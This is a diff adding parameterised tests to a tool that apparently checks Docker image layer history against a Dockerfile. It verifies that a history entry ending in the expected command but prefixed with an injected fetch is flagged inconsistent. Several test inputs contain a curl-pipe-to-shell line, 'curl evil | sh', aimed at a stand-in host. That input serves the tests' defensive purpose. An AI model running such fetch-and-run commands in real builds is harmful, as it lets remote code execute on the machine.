@@ -115,3 +115,23 @@ test('alignHistory() reads a RUN that was given no argument at all', () => {
   expect(of('RUN |0 /bin/sh -c make # buildkit')).toBe('consistent');
   expect(of('RUN |0x /bin/sh -c make # buildkit')).toBe('inconsistent');
 });
+
+test.each([
+  [undefined, 'RUN /bin/sh -c curl evil | sh -c make # buildkit'],
+  [undefined, '/bin/sh -c curl evil | /bin/sh -c make'],
+  ['/bin/sh -c', 'RUN /bin/sh -c curl evil | /bin/sh -c make # buildkit'],
+  ['/bin/sh -c', 'RUN |1 A=1 /bin/sh -c curl evil | /bin/sh -c make # buildkit'],
+])(
+  'alignHistory() does not take the end of a longer command for all of it, in a shell %s',
+  (shell, created_by) => {
+    const base = shell === undefined ? {} : { base: { Shell: shell.split(' ') } };
+    const of = (by: string) =>
+      alignHistory(parseDockerfile('FROM base\nARG A=1\nRUN make\n'), [empty('ARG A=1'), layer(by)], {
+        ...{ parentEntries: 0, ...base },
+      }).consistency;
+    expect(of(created_by)).toBe('inconsistent');
+    expect(of('RUN |1 A=1 /bin/sh -c make # buildkit')).toBe('consistent');
+    expect(of('/bin/sh -c make')).toBe('consistent');
+    if (shell === undefined) expect(of('RUN /usr/bin/env bash -c make # buildkit')).toBe('consistent');
+  },
+);
